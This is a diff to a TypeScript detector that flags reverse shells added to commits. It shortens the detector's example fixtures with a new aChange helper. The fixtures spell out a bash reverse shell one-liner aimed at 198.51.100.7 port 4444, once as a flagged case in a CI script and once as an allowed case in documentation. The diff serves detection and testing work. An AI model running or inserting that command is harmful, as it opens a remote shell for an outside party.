@@ -1,6 +1,6 @@
 import { z } from "zod";
 import { defineDetector, type Signal } from "../../model/detector.ts";
-import { aCommit, aFile } from "../../model/examples.ts";
+import { aChange, aCommit, aFile } from "../../model/examples.ts";
 import { visible } from "../../text/lines.ts";
 import { newCode, newText } from "../../text/new-lines.ts";
 import { isIdle, placeOf } from "../../text/places.ts";
@@ -60,9 +60,7 @@ export default defineDetector({
     flags: [
       {
         name: "one line of a shell",
-        commit: aCommit({
-          files: [aFile({ path: "scripts/ci.sh", added: `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, at: 3 })],
-        }),
+        commit: aChange("scripts/ci.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`),
       },
       {
         name: "a socket in place of the standard streams",
@@ -81,21 +79,11 @@ export default defineDetector({
     passes: [
       {
         name: "a port that is only probed",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "scripts/wait.sh",
-              added: `until (echo > ${DEVICE}/db/5432) 2>/dev/null; do sleep 1; done`,
-              at: 3,
-            }),
-          ],
-        }),
+        commit: aChange("scripts/wait.sh", `until (echo > ${DEVICE}/db/5432) 2>/dev/null; do sleep 1; done`),
       },
       {
         name: "a lesson",
-        commit: aCommit({
-          files: [aFile({ path: "docs/shells.md", added: `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`, at: 3 })],
-        }),
+        commit: aChange("docs/shells.md", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`),
       },
     ],
   },
